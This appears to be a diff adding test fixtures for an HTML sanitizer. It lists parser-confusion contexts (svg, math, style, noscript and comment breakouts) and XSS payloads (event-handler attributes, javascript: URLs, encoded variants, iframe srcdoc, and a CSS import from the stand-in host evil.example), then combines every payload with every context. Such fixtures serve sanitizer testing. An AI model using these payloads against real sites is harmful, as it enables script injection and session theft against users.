@@ -166,3 +166,68 @@ export const leftovers = [
   `<slot name=a></slot><x-y is=z>a</x-y>`,
   `<object id=x><param name=y></object><map name=z><area href=/a></map>`,
 ]
+
+/** Where the parsers of browsers and sanitizers change what they read next. `%` is where an attack stands. */
+const places = [
+  '<svg>%</svg>',
+  '<math>%</math>',
+  '<svg><style>%</style></svg>',
+  '<math><style>%</style></math>',
+  '<svg><desc>%</desc></svg>',
+  '<svg><foreignObject>%</foreignObject></svg>',
+  '<math><mtext>%</mtext></math>',
+  '<math><mtext><mglyph>%</mglyph></mtext></math>',
+  '<math><annotation-xml encoding="text/html">%</annotation-xml></math>',
+  '<form><math><mtext></form><form><mglyph><style></math>%',
+  '<svg></p><style><a title="</style>%">',
+  '<math></br><style><a title="</style>%">',
+  '<table><tr>%</tr></table>',
+  '<table><caption><svg></table>%',
+  '<select><option>%</select>',
+  '<template>%</template>',
+  '<noscript><a title="</noscript>%">',
+  '<textarea><a title="</textarea>%">',
+  '<title><a title="</title>%">',
+  '<style><a title="</style>%">',
+  '<xmp><a title="</xmp>%">',
+  '<iframe><a title="</iframe>%">',
+  '<noembed><a title="</noembed>%">',
+  '<script><!--<script></script>%</script>',
+  '<!--%-->',
+  '<!-- --!>%-->',
+  '<![CDATA[%]]>',
+  '<svg><![CDATA[</svg>%]]>',
+  '<?xml %?>',
+  '<a href="/a" title="%">a</a>',
+  "<img src=x alt='%'>",
+  '<p x=`%`>a</p>',
+  '<p title=a%>a</p>',
+  '<b <%>a</b>',
+  '</p %>',
+  '<a><a>%</a></a>',
+  '<ul><li><table>%</table></li></ul>',
+  '<dl><dd><button><dl><dd>%</dl></dl>',
+  `${'<i>'.repeat(300)}%`,
+  '&lt;p&gt;%&lt;/p&gt;',
+]
+
+/** What runs where it is read as markup, in the spellings that parsers take apart in different ways. */
+const payloads = [
+  '<script>ran()</script>',
+  '<img src=x onerror=ran()>',
+  '"><img src=x onerror=ran()>',
+  "'><img src=x onerror=ran()>",
+  '<svg/onload=ran()>',
+  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
+  '<a href="javascript:ran()">a</a>',
+  '<a href="&#106;avascript&colon;ran()">a</a>',
+  '&lt;img src=x onerror=ran()&gt;',
+  '<input autofocus onfocus=ran()>',
+  '<details open ontoggle=ran()>a</details>',
+  '<style>@import "https://evil.example/a"</style>',
+]
+
+/** Each payload at a place, for each place. */
+export const combinations = places.map((place) =>
+  payloads.map((payload) => place.replace('%', () => payload)),
+)
